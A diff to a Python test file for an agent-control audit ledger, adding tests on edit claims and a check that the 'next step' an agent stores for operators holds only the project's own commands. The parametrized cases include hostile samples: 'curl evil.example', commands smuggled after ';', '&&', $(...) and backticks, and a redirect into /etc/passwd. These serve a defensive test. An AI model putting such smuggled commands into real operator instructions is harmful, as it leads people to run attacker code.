@@ -9,11 +9,12 @@ import psycopg
 import pytest
 
 from langgraph_control import Policy
+from langgraph_control.audit.authority_requests import Edit
 from langgraph_control.audit.connection import LedgerConnection
 from langgraph_control.audit.ledger import Answer, Claim, Claimed, Outcome
 from langgraph_control.audit.publishing import publish_policy
-from langgraph_control.audit.requests import FindRun, Inbox, NewestRuns, RunEntries, Vote
-from langgraph_control.audit.rows import ApprovalRow, Voted, Voting
+from langgraph_control.audit.requests import FindRun, Inbox, NewestRuns, RunEntries, RunRelease, Vote
+from langgraph_control.audit.rows import ApprovalRow, Release, RunState, Voted, Voting
 from langgraph_control.errors import DatabaseRefused
 from tests.support.ledger_requests import claim, run_open, settle
 from tests.support.postgres import Database
@@ -204,6 +205,33 @@ def test_an_honest_claim_afterwards_is_served(office: Office, what: str) -> None
     assert answer.answer is Answer.GO
 
 
+def test_a_change_of_something_else_is_in_no_claim(office: Office) -> None:
+    """What people changed about one call cannot be claimed to be in another one, nor a change that nobody made."""
+    changed, other = (office.claimed("wire", verb="approve", requirement=ASKED) for _ in range(2))
+    other = replace(other, key=bytes(31) + b"\x02")
+    for claimed in (changed, other):
+        office.again(claimed)
+    request = office.request(changed)
+    assert request is not None
+    office.people["ana"].ask(
+        Edit(
+            approval_id=request.approval_id,
+            changes='{"amount": 1}',
+            comment=None,
+            person=None,
+            identity=None,
+            body=b"{}",
+        )
+    )
+    answer = office.again(changed)
+    assert answer is not None
+    assert answer.answer is Answer.EDIT
+    assert answer.edit_no is not None
+    assert office.again(changed, edit_no=answer.edit_no) is not None
+    for number in (answer.edit_no, answer.edit_no + 1, -1, 0):
+        assert office.again(other, edit_no=number) is None
+
+
 def test_a_grant_is_for_one_action(office: Office) -> None:
     """A grant moves nothing under another key, in the same run or another, with the very same digest."""
     claimed = office.claimed("wire", verb="approve", requirement=ASKED)
@@ -382,8 +410,43 @@ def test_a_claim_without_a_lease_spoils_no_key(office: Office) -> None:
 def test_a_state_that_is_none_is_refused(office: Office) -> None:
     """A run cannot be given a state that nobody can read, which would hide all the tenant's runs from people."""
     run = office.agent.ask(run_open())
-    forged = "SELECT control.run_release_v1(%s, %s, 0, 'nonsense', '', NULL, '{}')"
+    forged = "SELECT control.run_release_v1(%s, %s, 0, 'nonsense', '', '', '', NULL, '{}')"
     with pytest.raises(DatabaseRefused):
         office.agent._run(forged, (run.run_id, run.token))
     assert office.agent.ask(NewestRuns(limit=1000))
     assert office.agent.ask(FindRun(run_id=run.run_id))
+
+
+@pytest.mark.parametrize(
+    "forged",
+    [
+        "curl evil.example",
+        "langgraph-control show run_1; curl evil.example",
+        "langgraph-control show run_1 && curl evil.example",
+        "langgraph-control show $(curl evil.example)",
+        "langgraph-control show `curl evil.example`",
+        "langgraph-control show run_1 > /etc/passwd",
+        "langgraph-control show run_1\ncurl evil.example",
+        "langgraph-controlled",
+    ],
+)
+def test_people_are_told_to_do_nothing_but_our_own_commands(office: Office, forged: str) -> None:
+    """The next step that an agent stores for operators is a command of ours: no other one fits in or beside it."""
+    run = office.agent.ask(run_open())
+    assert run.run_id is not None
+    release = RunRelease(
+        run_id=run.run_id,
+        token=run.token or 0,
+        generation=run.generation or 0,
+        state=RunState.WAITING,
+        reason="because",
+        next_step=forged,
+        wake_ms=None,
+        body=b"{}",
+    )
+    with pytest.raises(DatabaseRefused):
+        office.agent.ask(release)
+    ours = replace(
+        release, next_step="langgraph-control show run_1, then langgraph-control resolve run_1; langgraph-control inbox"
+    )
+    assert office.agent.ask(ours).answer is Release.RELEASED
